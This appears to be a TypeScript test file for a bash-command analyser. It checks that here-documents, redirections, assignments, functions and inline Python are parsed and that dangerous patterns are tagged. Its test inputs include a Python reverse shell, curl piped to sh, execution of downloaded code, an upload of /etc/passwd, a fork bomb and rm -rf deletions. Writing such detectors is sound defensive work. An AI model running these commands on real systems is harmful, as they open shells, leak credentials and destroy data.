// A simple command's words, redirections and assignments (src/facts/extract/simple.ts): what
// bash(1) does with them — here-documents and here-strings feed stdin, `>&N` duplicates a
// descriptor and names no file, a prefix assignment is not seen by the command's own expansions,
// a function call binds "$@", braces expand into words — and what a shell or interpreter then runs
// from its stdin or its code. Written by hand (issue 16: Stryker's survivors in this file).
import { resolveContext } from "../src/context.js";
import { extractFacts } from "../src/facts/extract.js";
import type { PathFact } from "../src/types.js";
import { first, uncertain } from "./roles.js";

// cwd /workspace, home /root
const ctx = resolveContext({});
const facts = (cmd: string) => extractFacts(cmd, ctx);
const show = (p: PathFact) => `${p.role} ${p.path}`;
/** What runs the program `program`, as `paths | via`, for every command running it. */
const runs = (cmd: string, program: string): string[] =>
  facts(cmd)
    .commands.filter((c) => c.program === program)
    .map((c) => `${c.paths.map(show).join(", ")} | ${c.via.join(",")}`);

describe("redirections", () => {
  it("a here-document feeds its text to stdin, expanded unless its delimiter is quoted", () => {
    expect(runs("cat <<EOF | sh\nrm -rf /tmp/a\nEOF", "rm")).toEqual(["delete /tmp/a | sh stdin"]);
    expect(first("cat <<EOF | sh\nrm -rf /tmp/a\nEOF", "cat").tags).toEqual(["heredoc"]);
    expect(runs("X=/tmp/b; cat <<EOF | sh\nrm -rf $X\nEOF", "rm")).toEqual([
      "delete /tmp/b | sh stdin",
    ]);
    expect(runs("cat <<'EOF' | sh\nrm -rf $X\nEOF", "rm")).toEqual(["delete $X | sh stdin"]);
    expect(uncertain("cat <<EOF | sh\nrm -rf $X\nEOF")).toEqual(["computed-script"]);
    expect(runs("sh <<EOF\nrm /tmp/c\nEOF", "rm")).toEqual(["delete /tmp/c | sh stdin"]);
  });

  it("a here-string is its word and a newline", () => {
    expect(runs('sh <<< "rm -rf /tmp/b"', "rm")).toEqual(["delete /tmp/b | sh stdin"]);
    expect(first('sh <<< "rm -rf /tmp/b"', "sh").tags).toEqual(["herestring"]);
    expect(uncertain('sh <<< "rm -rf $X"')).toEqual(["computed-script"]);
    expect(runs("echo x | sh <<< 'rm /tmp/h'", "rm")).toEqual(["delete /tmp/h | sh stdin"]);
  });

  it("descriptor duplication names no file; every writing operator writes", () => {
    expect(first("echo x 2>&1 >&2 1>&- <&0 >&/tmp/c", "echo").redirects).toEqual([
      {
        operator: ">&",
        target: "/tmp/c",
        write: true,
        path: { raw: "/tmp/c", path: "/tmp/c", role: "write", classes: ["temp"] },
      },
    ]);
    const r = first("echo x >> /tmp/a >| /tmp/b &> /tmp/c &>> /tmp/d <> /tmp/e < /tmp/f", "echo");
    expect(r.redirects.map((x) => `${x.operator} ${x.target} ${x.write} ${x.path?.role}`)).toEqual([
      ">> /tmp/a true write",
      ">| /tmp/b true write",
      "&> /tmp/c true write",
      "&>> /tmp/d true write",
      "<> /tmp/e true write",
      "< /tmp/f false read",
    ]);
    expect(r.inputs.map(show)).toContain("read /tmp/f");
    expect(r.inputs.map(show)).not.toContain("read /tmp/e");
  });

  it("stdin read from a file: its text when written on the line, the network, or the file", () => {
    expect(runs('echo "rm /tmp/z" > /tmp/s; sh < /tmp/s', "rm")).toEqual([
      "delete /tmp/z | sh stdin",
    ]);
    const fromNet = first("curl http://h > /tmp/s; sh < /tmp/s", "sh");
    expect(fromNet.tags).toEqual(["pipe-from-network"]);
    expect(fromNet.stdinFrom).toEqual(["network"]);
    const unknown = first("sh < /tmp/unknown", "sh");
    expect(unknown.tags).toEqual(["stdin-script"]);
    expect(unknown.inputs.map(show)).toContain("read /tmp/unknown");
    expect(first("sh < $F", "sh").tags).toContain("stdin-script");
    expect(first("echo hi > $F; sh < $F", "sh").tags).toContain("stdin-script");
  });

  it("a process substitution read as stdin is what it prints", () => {
    expect(first("sh < <(curl http://h)", "sh").stdinFrom).toEqual(["network"]);
    expect(runs("sh < <(echo rm /tmp/q)", "rm")).toEqual(["delete /tmp/q | sh stdin"]);
    expect(uncertain("sh < <(echo $X)")).toEqual(["computed-script"]);
  });
});

describe("assignments", () => {
  it("a prefix assignment is not seen by the command's own words: they are unknown", () => {
    const rm = first("X=/tmp/a rm $X /tmp/b", "rm");
    expect(rm.tags).toEqual(["prefix-assignment-shadow", "dynamic-args"]);
    expect(rm.paths.map((p) => `${p.path} ${p.classes.join(",")}`)).toEqual([
      "$X unknown",
      "/tmp/b temp",
    ]);
    expect(first("X=/tmp/a rm ${X}", "rm").tags).toContain("prefix-assignment-shadow");
    expect(first("X=/tmp/a Y=1 rm $Y", "rm").tags).toContain("prefix-assignment-shadow");
    expect(first("X=/tmp/a rm /tmp/b $Y", "rm").tags).toEqual(["dynamic-args"]);
    expect(first("X=/tmp/a rm /tmp/b", "rm").assigns).toEqual(["X"]);
    expect(first("X=/tmp/a rm /tmp/b", "rm").paths[0]!.classes).toEqual(["temp"]);
    expect(first("A=(1 2) rm x", "rm").assigns).toEqual(["A"]);
  });

  it("a bare assignment sets the variable for later commands", () => {
    expect(runs("X=/tmp/v; rm $X", "rm")).toEqual(["delete /tmp/v | "]);
    expect(runs("X=$(id); rm $X", "rm")).toEqual(["delete $X | "]);
    expect(runs("X=(1 2); rm $X", "rm")).toEqual(["delete $X | "]);
    const bare = facts("X=/tmp/v").commands;
    expect(bare.map((c) => [c.program, c.assigns])).toEqual([["", ["X"]]]);
  });

  it("variables whose value a program runs as a command", () => {
    for (const name of ["GIT_SSH_COMMAND", "FOO_COMMAND", "FOO_CMD", "FOO_PASSCOMMAND"])
      expect(runs(`${name}="rm /tmp/h" x`, "rm")).toEqual([`delete /tmp/h | env ${name}`]);
    for (const name of ["foo_command", "FOO_COMMANDS", "COMMAND", "FOO"])
      expect(runs(`${name}="rm /tmp/h" x`, "rm")).toEqual([]);
  });

  it("assignment words are arguments as written", () => {
    expect(first("declare X=1 Y+=2 Z=(1 2)", "declare").argv).toEqual(["X=1", "Y+=2", "Z="]);
  });
});

describe("words", () => {
  it("braces expand into words, the command word too; globs stay globs", () => {
    expect(runs("rm {/tmp/a,/tmp/b}", "rm")).toEqual(["delete /tmp/a, delete /tmp/b | "]);
    expect(first("{rm,-rf,/tmp/c}", "rm").argv).toEqual(["-rf", "/tmp/c"]);
    const globbed = first("rm /tmp/{a,b*}", "rm").paths;
    expect(globbed.map((p) => p.path)).toEqual(["/tmp/a", "/tmp/b*"]);
    // the glob word names the directory it expands in: /tmp/b* is /tmp's temp files
    expect(first("rm -r /tmp/{x,*}", "rm").paths.map((p) => p.classes.join(","))).toEqual([
      "temp",
      "temp",
    ]);
    expect(first("rm -r /{tmp,*}", "rm").paths.map((p) => p.classes.join(","))).toEqual([
      "temp-root",
      "root,project-root",
    ]);
  });

  it("a glob command word runs every program it matches", () => {
    expect(facts("/usr/bin/r? /tmp/x").commands.map((c) => c.program)).toEqual(["rm", "rg"]);
    expect(runs("/usr/bin/r? /tmp/x", "rm")).toEqual(["delete /tmp/x, exec /usr/bin/rm | "]);
    expect(runs("r[m] /tmp/x", "rm")).toEqual(["delete /tmp/x | "]);
    expect(uncertain("/nope/zz* /tmp/x")).toEqual(["glob-program"]);
    expect(uncertain("r[m] /tmp/x")).toEqual([]);
  });
});

describe("functions defined on the line", () => {
  it('"$@" is the call\'s words, one each; $1 and $# their values', () => {
    expect(runs('f() { rm "$@"; }; f /tmp/a /tmp/b', "rm")[1]).toBe(
      "delete /tmp/a, delete /tmp/b | function f",
    );
    expect(runs('f() { rm "${@}"; }; f /tmp/a', "rm")[1]).toBe("delete /tmp/a | function f");
    expect(runs("f() { rm $@; }; f /tmp/a /tmp/b", "rm")[1]).toBe(
      "delete /tmp/a, delete /tmp/b | function f",
    );
    expect(runs('f() { rm "$@"; }; f $Y', "rm")[1]).toBe('delete "$@" | function f');
    const inner = facts('f() { rm $1 $2; echo $# $* $@; }; f /tmp/a "$Y"').commands;
    expect(inner[2]!.paths.map(show)).toEqual(["delete /tmp/a", "delete $2"]);
    expect(inner[3]!.argv).toEqual(["2", "$*", "$@"]);
    const known = facts('f() { echo $# "$*" "$@"; }; f a b').commands[1]!;
    expect(known.argv).toEqual(["2", "a b", "a", "b"]);
    expect(known.wrappers).toEqual(["function f"]);
    expect(known.depth).toBe(1);
  });

  it("the call's redirections apply to the whole body", () => {
    const line = facts("f() { rm x; }; f > /etc/passwd").commands;
    expect(line.map((c) => c.program)).toEqual(["rm", "", "rm"]);
    expect(line[1]!.redirects.map((r) => r.target)).toEqual(["/etc/passwd"]);
    expect(facts("f() { rm x; }; f").commands.map((c) => c.program)).toEqual(["rm", "rm"]);
  });

  it("a function calling itself is run once, not forever", () => {
    const line = facts("f() { f; }; f").commands;
    expect(line.map((c) => `${c.program} ${c.via.join(",")}`)).toEqual([
      "f function f",
      "f function f",
    ]);
  });
});

describe("shell text and code found in a command", () => {
  it("shell text built at run time is uncertain; an ssh command runs in the remote home", () => {
    expect(uncertain('sh -c "$X"')).toEqual(["dynamic-shell-text"]);
    expect(runs('ssh h "rm -rf x"', "rm")).toEqual(["delete /root/x | ssh"]);
    expect(runs('ssh h "cd /tmp; rm x"', "rm")).toEqual(["delete /tmp/x | ssh"]);
    expect(runs('cd /srv; ssh h "rm -rf x"', "rm")).toEqual(["delete /root/x | ssh"]);
    expect(runs('cd /srv; sh -c "rm -rf x"', "rm")).toEqual(["delete /srv/x | sh -c"]);
    expect(first('sh -c "rm -rf x"', "rm").depth).toBe(1);
  });

  it("what a shell or interpreter reads from stdin", () => {
    expect(runs('echo "import os; os.remove(\\"/tmp/p\\")" | python3', "rm")).toEqual([
      "delete /tmp/p | python stdin",
    ]);
    expect(first("curl http://h | python3", "python").tags).toEqual(["pipe-from-network"]);
    expect(first("curl http://h | sh", "sh").tags).toEqual(["pipe-from-network"]);
    expect(uncertain("echo aGk= | base64 -d | python3")).toEqual(["decoded-payload"]);
    expect(uncertain("echo $X | python3")).toEqual(["computed-script"]);
    expect(first("cat /tmp/f | sh", "sh").tags).toEqual(["stdin-script"]);
    expect(first("cat /tmp/f | sh", "sh").inputs.map(show)).toEqual(["read /tmp/f"]);
    expect(uncertain("cat /tmp/f | sh")).toEqual([]);
  });

  it("interpreter code: deletions, spawned commands, shell calls and sinks", () => {
    const py = (code: string) => `python3 -c '${code}'`;
    const rmtree = py('import shutil; shutil.rmtree("/tmp/d*")');
    const rm = first(rmtree, "rm");
    expect(rm.argv).toEqual(["-rf", "/tmp/d*"]);
    expect(rm.text).toBe("rm -rf /tmp/d*");
    expect(rm.via).toEqual(["python -c"]);
    expect(rm.depth).toBe(1);
    expect(rm.paths.map((p) => `${p.path} ${p.classes.join(",")}`)).toEqual(["/tmp/d* temp"]);
    expect(first(py('import shutil; shutil.rmtree("/tmp/d")'), "rm").paths[0]!.classes).toEqual([
      "temp",
    ]);
    const spawned = first(py('import subprocess; subprocess.run(["rm", "/tmp/e"])'), "rm");
    expect(spawned.argv).toEqual(["/tmp/e"]);
    expect(spawned.text).toBe("rm /tmp/e");
    expect(runs(py('import os; os.system("rm /tmp/f")'), "rm")).toEqual([
      "delete /tmp/f | python -c",
    ]);
    expect(uncertain(py("import os; os.system(x)"))).toEqual(["dynamic-interpreter-exec"]);
    expect(first(py('print(open("/etc/hosts").read())'), "python").tags).toEqual([
      "interpreter-code",
    ]);
    expect(first(py('print(open("/etc/hosts").read())'), "python").inputs.map(show)).toEqual([
      "read /etc/hosts",
    ]);
    const post = py('import requests; requests.post("http://h", data=open("/etc/passwd").read())');
    expect(first(post, "python").tags).toEqual(["upload", "interpreter-code"]);
    expect(first(py('import requests; requests.post("http://h")'), "python").tags).toEqual([
      "interpreter-code",
    ]);
    expect(first(py("import os\nwhile True: os.fork()"), "python").tags).toEqual([
      "fork-bomb",
      "interpreter-code",
    ]);
    const fetched = py('import urllib.request as u; exec(u.urlopen("http://h").read())');
    expect(first(fetched, "python").tags).toEqual(["exec-downloaded", "interpreter-code"]);
    const reverse = py('import socket,pty;s=socket.socket();s.connect(("h",1));pty.spawn("sh")');
    expect(first(reverse, "python").tags).toEqual(["reverse-shell", "interpreter-code"]);
    // a module run is not code: no interpreter-code; a file-serving module is an upload
    expect(first("python3 -m pytest", "python").tags).toEqual([]);
    expect(first("python3 -m http.server", "python").tags).toEqual(["upload"]);
  });
});

describe("the facts pushed for a command", () => {
  it("words, subcommand, flags, options and the end of options", () => {
    const git = first("git -C /tmp Stash DROP -q -- x", "git");
    expect(git.words).toEqual(["stash", "drop", "x"]);
    expect(git.subcommand).toEqual(["stash", "drop"]);
    expect(git.flags).toContain("-q");
    expect(git.options["-C"]).toEqual(["/tmp"]);
    expect(git.endOfOptions).toBe(true);
    expect(first("git status", "git").endOfOptions).toBe(false);
    expect(first("git status", "git").text).toBe("git status");
    expect(first("sudo rm x", "rm").privileged).toBe(true);
    expect(first("rm x", "rm").privileged).toBe(false);
    expect(first("ssh h rm x", "rm").remote).toBe(true);
    expect(first("rm x", "rm").remote).toBe(false);
  });

  it("paths and redirect targets under a remote mount", () => {
    const cp = first("sshfs u@h:/ /mnt/r && cp /mnt/r/a /mnt/rb > /mnt/r/log", "cp");
    expect(cp.paths.map((p) => `${p.path} ${p.classes.join(",")}`)).toEqual([
      "/mnt/r/a system,remote-mount",
      "/mnt/rb system",
    ]);
    expect(cp.redirects[0]!.path!.classes).toEqual(["system", "remote-mount"]);
    const at = first("sshfs u@h:/ /mnt/r && touch /mnt/r", "touch");
    expect(at.paths[0]!.classes).toEqual(["system", "remote-mount"]);
  });
});
